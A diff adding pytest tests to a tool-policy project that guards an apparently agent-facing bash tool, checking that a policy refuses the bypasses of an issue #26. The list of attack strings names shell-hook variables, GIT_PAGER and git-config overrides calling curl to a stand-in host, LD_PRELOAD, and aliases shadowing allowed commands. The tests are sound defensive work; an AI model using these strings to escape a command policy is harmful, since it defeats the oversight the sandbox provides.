@@ -136,3 +136,81 @@ def test_the_readme_refusal(tmp_path: Path, workspace: Path) -> None:
     with Toolset.load(["bash"], workspace=workspace, policy=policy) as tools:
         text = tools.call("bash", json.loads(shown[1])).text
     assert text.replace(str(policy), "policy.toml") == " ".join(shown[2].split())
+
+
+#: The attacks of issue #26, each of which ran a command the page's policy does not
+#: allow: variables bash acts on, environment prefixes in front of an allowed command,
+#: a function or alias named like an allowed command, and paths out of a directory.
+ISSUE_26_ATTACKS = [
+    "PS0='$(curl x.example)'",
+    "PS1='$(curl x.example)'",
+    "PS4='$(curl x.example)'; set -x; ls",
+    "PROMPT_COMMAND='curl x.example'",
+    "PROMPT_COMMAND[1]='curl x.example'",
+    "BASH_CMDS=([ls]=/usr/bin/curl)",
+    "BASH_ALIASES=([ls]='curl x.example')",
+    "BASH_ENV=/tmp/x bash -c ls",
+    "ENV=/tmp/x",
+    "for PATH in /tmp/evil; do ls; done",
+    "IFS=/",
+    "SHELLOPTS=xtrace",
+    "GLOBIGNORE='*'",
+    "LD_PRELOAD=/tmp/x.so ls",
+    "HISTFILE=~/.bashrc",
+    "read PS1 <<< x",
+    "declare PS0=x",
+    "printf -v PROMPT_COMMAND x",
+    "mapfile BASH_ENV < /dev/null",
+    "GIT_CONFIG_PARAMETERS=\"'core.pager=curl x.example'\" git status",
+    "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=curl git log -1",
+    "GIT_PAGER='curl x.example' git log -1",
+    "GIT_PAGER='curl x.example'; git log -1",
+    "export GIT_PAGER='curl x.example'; git log -1",
+    "env GIT_PAGER='curl x.example' git log -1",
+    "HOME=src git status",
+    "GIT_CONFIG_GLOBAL=src/gitconfig git status",
+    "XDG_CONFIG_HOME=src git status",
+    "LESSOPEN='|curl x.example' git log",
+    "PYTHONSTARTUP=src/x.py pytest -q",
+    "PERL5OPT=-Mx git status",
+    "NODE_OPTIONS='--require ./x.js' npm run test:unit",
+    "npm_config_script_shell=/tmp/x npm run test:unit",
+    "alias ls='curl x.example'; ls",
+    "git() { curl x.example; }; git status",
+    "git() { ls; }; git status",
+    "command_not_found_handle() { ls; }",
+    "enable -n echo",
+    "hash -p /usr/bin/curl ls",
+    "trap 'ls' DEBUG",
+    "shopt -s expand_aliases",
+    "set -k; git log -1 GIT_PAGER=curl",
+    "X=1",
+    "x=1",
+    "echo " + "a" * 1_000_000,
+]
+
+
+@pytest.mark.parametrize("command", ISSUE_26_ATTACKS, ids=lambda c: c[:40])
+def test_the_pages_policy_refuses_each_attack(policy: Policy, tmp_path: Path, command: str) -> None:
+    verdict = policy.decide("bash", BashAction(command=command), tmp_path)
+    assert verdict.decision in ("ask", "deny"), verdict  # ask, with nobody to ask, refuses
+
+
+def test_the_pages_policy_keeps_the_network_rule_under_a_git_pager(
+    tmp_path: Path, workspace: Path
+) -> None:
+    """The page's claim "no network from the shell", kept against a pager given to an
+    allowed git command: the pager (here a command leaving a marker) does not run."""
+    git = ["git", "-c", "user.email=t@example.org", "-c", "user.name=t"]
+    subprocess.run([*git, "init", "-q"], cwd=workspace, check=True)
+    subprocess.run([*git, "commit", "-q", "--allow-empty", "-m", "one"], cwd=workspace, check=True)
+    (tmp_path / "policy.toml").write_text(blocks("toml")[0])
+    from toolplug import Toolset
+
+    with Toolset.load(["bash"], workspace=workspace, policy=tmp_path / "policy.toml") as tools:
+        text = tools.call("bash", {"command": "GIT_PAGER='touch paged' git log -1"}).text
+        assert text.startswith("Refused by the policy: "), text
+        text = tools.call("bash", {"command": "GIT_PAGER='touch paged'"}).text
+        assert text.startswith("Refused by the policy: "), text
+        assert not tools.call("bash", {"command": "git log -1"}).is_error
+    assert not (workspace / "paged").exists()
